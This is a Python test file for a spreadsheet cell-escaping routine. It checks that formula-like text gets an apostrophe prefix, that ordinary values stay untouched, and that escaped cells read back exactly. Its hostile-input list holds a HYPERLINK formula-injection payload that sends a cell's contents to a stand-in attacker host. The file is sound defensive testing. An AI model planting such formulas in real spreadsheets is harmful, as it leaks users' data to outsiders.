"""Cells that a spreadsheet would run are written as text, and read back exactly."""

from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from storage.cells import safe_cell, unsafe_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&B2,"Evidence pack")', "+1 more agency",
           "-2 returns", "@SUM(1,1) late returns", "\t=1+1", "\r=1+1", "'=already quoted"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_is_put_behind_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Agreed with partners", "2.3", "May 2014", "", "it's = fine",
                                   12, -5, 2.5, date(2014, 5, 31), None])
def test_ordinary_text_numbers_and_dates_are_untouched(value: object) -> None:
    assert safe_cell(value) == value


@given(st.text())
def test_every_string_reads_back_as_written(text: str) -> None:
    written = safe_cell(text)
    assert unsafe_cell(written) == text
    assert not (isinstance(written, str) and written[:1] and written[0] in "=+-@\t\r")
